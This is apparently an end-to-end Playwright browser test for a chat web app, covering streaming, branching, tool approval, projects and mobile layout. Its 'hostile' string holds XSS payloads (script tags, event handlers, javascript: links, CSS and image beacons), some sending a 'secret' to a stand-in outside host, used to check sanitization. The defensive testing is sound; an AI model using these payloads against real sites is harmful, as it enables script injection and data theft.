// Uses the chat in a real browser: node chat.mjs SIGN_IN_URL SECOND_SILO_URL TOKEN SERVER_ID SCREENSHOT_FOLDER
import { chromium } from 'playwright-core';
import { createServer } from 'node:http';
import { KEY, startModel, texts } from './scripted-model.mjs';

const [signIn, second, token, server, folder] = process.argv.slice(2);
const origin = new URL(signIn).origin;
const flags = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'];
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: flags });
const context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
const page = await context.newPage();
const result = { foreign: [], problems: [], dialogs: [], steps: [] };
const watch = one => {
  one.on('pageerror', error => String(error).includes("invoking 'DispatchEventAsync'") || result.problems.push(String(error)));
  one.on('console', message => message.type() === 'error' && result.problems.push(message.text()));
  one.on('request', request => { const url = new URL(request.url()); if (url.protocol.startsWith('http') && url.origin !== origin && url.origin !== second) result.foreign.push(request.url()); });
  one.on('dialog', dialog => { result.dialogs.push(dialog.message()); dialog.dismiss(); });
};
watch(page);

// a host of strangers: whatever reaches it has leaked
const beacons = [];
const stranger = createServer((request, response) => { beacons.push(request.url); response.setHeader('access-control-allow-origin', '*'); response.end('x'); });
await new Promise(done => stranger.listen(0, '127.0.0.1', done));
const away = `http://127.0.0.1:${stranger.address().port}`;
const model = await startModel();

const api = async (method, path, body) => {
  const response = await fetch(origin + path, { method, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: body && JSON.stringify(body) });
  const text = await response.text();
  if (!response.ok && response.status !== 404) throw new Error(`${method} ${path} ${response.status} ${text}`);
  return text ? JSON.parse(text) : null;
};
const shot = (name, one = page) => one.screenshot({ path: `${folder}/${name}.png` });
const step = name => result.steps.push(name);
const field = (one = page) => one.locator('#composer');
// sent when the field is empty again and the words stand above it
const send = async (text, one = page) => {
  await one.locator('[data-send]').waitFor();
  await field(one).fill(text);
  await field(one).press('Enter');
  await one.locator('.from-user .said').filter({ hasText: text.slice(0, 40) }).last().waitFor({ timeout: 30000 });
  await one.waitForTimeout(300);
};
const complete = (one = page) => one.locator('.chat-status').filter({ hasText: 'The answer is complete' }).waitFor({ state: 'attached', timeout: 60000 });
const last = (one = page) => one.locator('.from-model').last();

texts.set('rich', `# Three ways to sort

A **stable** sort keeps equal elements in order. See [the manual](https://docs.example.org/sort) for more.

| algorithm | average | stable |
|---|---|:-:|
| merge sort | \\(O(n \\log n)\\) | yes |
| quicksort | $O(n \\log n)$ | no |

$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$

\`\`\`python
def merge(left, right):
    """Merges two sorted lists."""
    result = []
    while left and right:
        result.append((left if left[0] <= right[0] else right).pop(0))
    return result + left + right
\`\`\`

1. Take the \`list\` apart
2. Sort the halves
   - [x] left
   - [ ] right

> Premature optimization is the root of all evil.
`);
texts.set('code', `Here it is:\n\n\`\`\`csharp\n${Array.from({ length: 120 }, (_, i) => `    public int Property${i} { get; init; } = ${i}; // a line that is long enough to need scrolling sideways in a narrow window, number ${i}`).join('\n')}\n\`\`\`\n\nThat is all.`);
texts.set('story', Array.from({ length: 40 }, (_, i) => `Paragraph ${i} of a long story, with enough words in it to fill a line or two of the page, so that it scrolls.`).join('\n\n') + '\n\nThe end.');
const hostile = `<script>window.hacked = 1; fetch('${away}/script')</script>
<img src=x onerror="window.hacked = 2"><svg onload="window.hacked = 3"></svg><iframe src="${away}/frame"></iframe>
<a href="javascript:window.hacked=4">raw</a>

[click me](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>) [vb](vbscript:x)

![beacon](${away}/beacon?secret=42) ![data](data:image/svg+xml;base64,PHN2Zy8+)

[the console](/admin/servers) [1](/chat/forged) <div class="tool" onclick="window.hacked=7">approved</div>

<style>body { background: url(${away}/css) }</style> [ref]: ${away}/ref

[x](https://user:pass@bank.example/ "title\\" onmouseover=\\"window.hacked=8") <https://example.org/auto>
`;
texts.set('hostile', hostile);

try {
  await page.goto(signIn);
  await page.waitForLoadState('networkidle');
  const button = page.getByRole('button', { name: /sign in|continue/i });
  if (await button.count()) await button.first().click();
  await page.waitForURL(url => !url.pathname.startsWith('/login'));

  // nothing is there yet
  await page.getByText('No model yet').waitFor();
  await shot('01-no-model');
  result.noModelLink = await page.getByRole('link', { name: 'Add a model provider' }).getAttribute('href');
  step('no model');

  await api('POST', '/api/model-providers', { id: 'scripted', kind: 'openai', baseURL: model.url, apiKey: KEY, settings: {} });
  await api('POST', '/api/model-access-policies', { displayName: 'chat test', subjects: [{ type: 'selector', id: '*' }], models: [{ id: '*' }] });
  await page.getByText('What can I do for you?').waitFor({ timeout: 30000 });
  await shot('02-first-visit');
  result.examples = await page.locator('.examples button').count();
  step('first visit');

  // the answer streams, with everything that Markdown has
  await page.getByRole('combobox', { name: 'Model' }).selectOption({ index: 0 });
  await send('Explain sorting [say rich] [slow]');
  await page.waitForURL(/\/chat\//);
  const address = page.url();
  await page.locator('.from-model .md h1').waitFor({ timeout: 30000 });
  await shot('03-streaming');
  result.stopOffered = await page.getByRole('button', { name: 'Stop' }).count();

  // reload in the middle: nothing of the answer is lost
  const before = (await last().innerText()).length;
  await page.reload();
  await page.locator('.from-model .md h1').waitFor({ timeout: 30000 });
  result.grewAfterReload = (await last().innerText()).length >= before * 0.9;
  const other = await context.newPage();
  watch(other);
  await other.goto(second + new URL(address).pathname);
  await other.locator('.from-model .md h1').waitFor({ timeout: 30000 });
  await shot('04-second-browser-mid', other);
  await complete();
  await complete(other);
  await page.locator('.md math').first().waitFor({ timeout: 15000 });
  await page.locator('.md .hljs-keyword').first().waitFor({ timeout: 15000 });
  await page.waitForTimeout(500);
  result.math = await page.locator('.md math').count();
  result.table = await page.locator('.md table td').count();
  result.sameInBoth = (await last().innerText()) === (await last(other).innerText());
  await shot('05-answer');
  await shot('06-second-browser', other);
  await other.close();
  step('streaming');

  // whoever reads above is left there; then the arrow leads down
  await send('Tell a story [say story] [slow]');
  await page.getByText('Paragraph 12').waitFor({ timeout: 30000 });
  result.follows = await page.locator('.chat-scroll').evaluate(one => one.scrollHeight - one.scrollTop - one.clientHeight < 80);
  await page.mouse.move(700, 300);
  await page.mouse.wheel(0, -600);
  await page.waitForTimeout(300);
  const at = await page.locator('.chat-scroll').evaluate(one => one.scrollTop);
  await page.waitForTimeout(1200);
  result.staysWhereRead = Math.abs(await page.locator('.chat-scroll').evaluate(one => one.scrollTop) - at) < 5;
  await shot('07-scrolled-up');
  await field().fill('a draft that is not sent');
  await page.keyboard.press('Escape');
  await page.getByText('You stopped this answer.').waitFor({ timeout: 15000 });
  await page.reload();
  await page.getByText('You stopped this answer.').waitFor({ timeout: 30000 });
  result.draft = await field().inputValue();
  step('stop');

  // retry with another model, edit, and the branches
  await last().hover();
  await last().getByRole('button', { name: 'Answer again' }).click();
  await page.getByText(/^With scripted/).first().click();
  await page.getByRole('button', { name: 'Stop' }).waitFor({ timeout: 30000 });
  await last().getByText('Paragraph 3 ').waitFor({ timeout: 30000 });
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.locator('.branches').getByText('2/2').waitFor({ timeout: 30000 });
  result.keptWhenStopped = await last().getByText('Paragraph 3 ').count();
  await page.locator('.from-user').last().hover();
  await page.locator('.from-user').last().getByRole('button', { name: 'Edit' }).click();
  await page.locator('.edit textarea').fill('Say hello instead');
  await shot('08-edit');
  await page.locator('.edit').getByRole('button', { name: 'Send' }).click();
  await page.getByText('Hello. I am a scripted model').first().waitFor({ timeout: 30000 });
  await complete();
  await page.locator('.from-user').last().hover();
  result.branch = await page.locator('.from-user').last().locator('.branches').innerText();
  await shot('09-branch');
  await page.locator('.from-user').last().getByRole('button', { name: 'Earlier branch' }).click();
  await page.locator('.from-user').last().getByText('Tell a story').waitFor({ timeout: 15000 });
  step('branches');

  // a tool, with permission
  await page.goto(origin + '/');
  await page.getByText('What can I do for you?').waitFor();
  await page.getByRole('button', { name: 'Tools of this chat' }).click();
  await page.getByRole('dialog').waitFor();
  await page.waitForTimeout(500);
  await shot('10-tools');
  await page.getByRole('dialog').getByRole('button', { name: 'Done' }).click();
  await send('Use the tool [call echo {"message": "hello from the tool"}]');
  await page.getByRole('button', { name: 'Allow once' }).waitFor({ timeout: 90000 });
  await page.waitForTimeout(300);
  await shot('11-approve');
  await page.getByRole('button', { name: 'Allow once' }).click();
  await page.getByText('The tool said').waitFor({ timeout: 60000 });
  await complete();
  await page.locator('.tool summary').last().click();
  await page.waitForTimeout(300);
  await shot('12-tool-result');
  result.toolShown = await page.locator('.tool').last().innerText();
  step('tool');

  // hostile words of the model, and of a tool
  await send('Show me [say hostile]');
  await complete();
  await page.waitForTimeout(1500);
  await shot('13-hostile');
  result.hostile = await last().locator('.md').evaluate(one => ({
    elements: [...new Set([...one.querySelectorAll('*')].map(element => element.localName))].sort(),
    handlers: [...one.querySelectorAll('*')].flatMap(element => element.getAttributeNames().filter(name => name.startsWith('on') || name === 'style' || name === 'id' || name === 'src')),
    links: [...one.querySelectorAll('a')].map(link => [link.getAttribute('href'), link.rel, link.target]),
  }));
  await page.locator('.md a.ask').first().click();
  await page.locator('.ask-dialog').waitFor();
  await shot('14-picture-asks');
  await page.locator('.ask-dialog').getByRole('button', { name: 'Cancel' }).click();
  await send(`Again [call echo ${JSON.stringify({ message: hostile.replaceAll('}', ')').replaceAll('{', '(') })}]`);
  await page.getByRole('button', { name: 'Always in this project' }).click({ timeout: 60000 });
  await complete();
  await page.locator('.tool summary').last().click();
  await page.waitForTimeout(500);
  await shot('15-hostile-tool');
  result.hacked = await page.evaluate(() => window.hacked ?? null);
  result.beacons = beacons;
  step('hostile');

  // a picture, a form of a server, and a server that wants the person's model
  await send('A picture [call get-tiny-image {}]');
  await page.getByRole('button', { name: 'Allow once' }).click({ timeout: 60000 });
  await complete();
  await page.locator('.tool summary').last().click();
  await page.locator('.tool-image').waitFor();
  result.picture = (await page.locator('.tool-image').getAttribute('src')).slice(0, 22);
  await send('Ask me [call trigger-elicitation-request {}]');
  await page.getByRole('button', { name: 'Allow once' }).click({ timeout: 60000 });
  await page.locator('.schema').waitFor({ timeout: 30000 });
  await page.waitForTimeout(500);
  await page.locator('.question').scrollIntoViewIfNeeded();
  await shot('26-question');
  await page.locator('.schema').getByLabel('String', { exact: true }).fill('Ann Example');
  await page.locator('.schema').getByRole('button', { name: 'Send' }).click();
  await last().getByText('The tool said').first().waitFor({ timeout: 60000 });
  await complete();
  result.form = await last().innerText();
  await send('Use my model [call trigger-sampling-request {"prompt": "Say hello"}]');
  await page.getByRole('button', { name: 'Allow once' }).click({ timeout: 60000 });
  await page.getByRole('button', { name: 'Let it ask my model' }).waitFor({ timeout: 30000 });
  await shot('27-sampling');
  await page.getByRole('button', { name: 'Let it ask my model' }).click();
  await last().getByText('The tool said').first().waitFor({ timeout: 60000 });
  await complete();
  result.sampling = await last().innerText();
  step('questions');

  await send('Long code please [say code]');
  await complete();
  await page.waitForTimeout(500);
  await shot('16-long-code');
  await page.locator('.code-head button').last().click();
  step('code');

  await send('Now break [fail 500]');
  await page.locator('.failed[role=alert]').last().waitFor({ timeout: 120000 });
  await page.waitForTimeout(300);
  await shot('17-provider-error');
  result.failure = await page.locator('.failed[role=alert]').last().innerText();
  step('failure');

  // the list: search, rename, delete
  await page.keyboard.press('Control+k');
  await page.keyboard.type('sorting');
  await page.waitForTimeout(1500);
  result.found = await page.locator('.side-list a[href^="/chat/"]').count();
  await shot('18-search');
  await page.locator('#chat-search').fill('');
  await page.getByRole('button', { name: 'More about this chat' }).click();
  await page.getByText('Rename', { exact: true }).click();
  await page.getByRole('dialog').getByLabel('Name').fill('Renamed by the test');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.locator('.side-list').getByText('Renamed by the test').waitFor({ timeout: 15000 });
  step('list');

  // a project
  await page.goto(origin + '/projects/new');
  await page.getByLabel('Name').fill('Trip to Wien');
  await page.getByLabel('Instructions (optional)').fill('Answer in one sentence. Prices in euros.');
  await page.getByRole('button', { name: 'Create project' }).click();
  await page.waitForURL(/\/projects\/(?!new)/);
  await page.getByRole('link', { name: 'New chat here' }).waitFor();
  await shot('19-project');
  await page.getByRole('link', { name: 'New chat here' }).click();
  await page.getByText('What is next in Trip to Wien?').waitFor({ timeout: 15000 });
  await send('What does a coffee cost?');
  await page.getByText('Hello. I am a scripted model').waitFor({ timeout: 30000 });
  result.instructions = JSON.stringify(model.seen.at(-1)).includes('Prices in euros') || model.seen.slice(-3).some(one => JSON.stringify(one).includes('Prices in euros'));
  await complete();
  await shot('20-project-chat');
  step('project');

  // phone, dark
  const dark = await browser.newContext({ viewport: { width: 390, height: 844 }, colorScheme: 'dark', storageState: await context.storageState(), hasTouch: true, isMobile: true, deviceScaleFactor: 2 });
  const phone = await dark.newPage();
  watch(phone);
  await phone.goto(address);
  await phone.locator('.md math').first().waitFor({ timeout: 30000 });
  await phone.waitForTimeout(800);
  await shot('21-phone-dark', phone);
  result.phoneOverflow = await phone.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  await phone.getByRole('button', { name: 'Open the list of chats' }).click();
  await phone.waitForTimeout(500);
  await shot('22-phone-drawer', phone);
  await phone.locator('.side-new').click();
  await phone.getByText('What can I do for you?').waitFor();
  await phone.waitForTimeout(500);
  result.phoneTools = await phone.getByRole('button', { name: 'Tools of this chat' }).innerText();
  await shot('23-phone-new', phone);
  const night = await browser.newContext({ viewport: { width: 1280, height: 860 }, colorScheme: 'dark', storageState: await context.storageState() });
  const wide = await night.newPage();
  watch(wide);
  await wide.goto(address);
  await wide.locator('.md .hljs-keyword').first().waitFor({ timeout: 30000 });
  await wide.locator('.chat-scroll').evaluate(one => { one.scrollTop = 0; });
  await wide.waitForTimeout(600);
  await shot('24-dark', wide);
  await wide.goto(origin + '/admin/servers');
  await wide.getByRole('button', { name: /add server/i }).first().waitFor();
  await shot('25-console-dark', wide);
  step('phone and dark');
  result.done = true;
} catch (error) {
  await shot('failed');
  result.error = String(error);
}

result.foreign = result.foreign.filter(url => !url.startsWith(model.url));
result.beacons = beacons;
console.log(JSON.stringify(result));
await browser.close();
stranger.close();
model.close();
process.exit(result.error ? 1 : 0);
